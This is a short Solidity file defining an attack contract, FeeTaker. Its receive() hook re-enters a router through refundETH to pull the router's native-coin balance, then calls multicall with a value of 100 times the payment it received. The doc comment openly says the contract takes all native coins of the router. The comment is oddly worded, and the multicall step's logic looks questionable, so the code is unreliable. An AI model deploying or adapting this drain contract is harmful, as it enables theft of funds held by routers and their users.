// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IRefunds {
    function refundETH() external payable;
    function multicall(bytes[] calldata data) external payable returns (bytes[] memory results);
}

/// Takes all native coins of a router while the router pays it a fee of 1 %, except the rest of that payout.
contract FeeTaker {
    address immutable owner = msg.sender;
    IRefunds router;

    function arm(IRefunds router_) external {
        require(msg.sender == owner);
        router = router_;
    }

    receive() external payable {
        if (address(router) == address(0)) return;
        IRefunds payer = router;
        router = IRefunds(address(0));
        payer.refundETH();
        payer.multicall{value: msg.value * 100}(new bytes[](0));
    }
}
